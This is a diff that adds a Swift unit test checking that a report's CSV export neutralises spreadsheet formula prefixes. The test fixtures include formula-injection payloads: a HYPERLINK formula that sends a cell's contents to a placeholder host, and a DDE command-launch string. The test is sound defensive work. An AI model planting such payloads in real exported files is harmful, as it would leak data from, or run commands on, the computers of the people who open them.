@@ -47,6 +47,23 @@ struct ReportTests {
         #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "predicted")!] == "encrypted")
     }
 
+    /// Names come from other people's catalogs, tenants and manifests: none reaches a CSV cell as
+    /// a formula a spreadsheet would run.
+    @Test func csvNeutralisesFormulaPrefixes() {
+        var hostile = Self.exit
+        let formulas = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]
+        for (i, f) in formulas.enumerated() { hostile.results[i].cell.label = f }
+        hostile.results[0].cell.source.name = "=cmd|' /C calc'!A0"
+        let records = Self.parseCSV(hostile.render(.csv))
+        for (i, f) in formulas.enumerated() { #expect(records[i + 1].last == "'" + f, "\(records[i + 1])") }
+        #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "source")!] == "'=cmd|' /C calc'!A0")
+        for record in records.dropFirst() {
+            for field in record { #expect(!"=+-@\t\r".contains(field.first ?? " "), "a field starts a formula: \(field)") }
+        }
+        // An ordinary value is as it was.
+        #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "predicted")!] == "encrypted")
+    }
+
     @Test func jsonIsOneObjectPerCellConformingToTheSchema() throws {
         let schema = try SchemaChecker(file: Fixture.root.appendingPathComponent("docs/matrix-cell.schema.json").path)
         var withLive = Self.exit
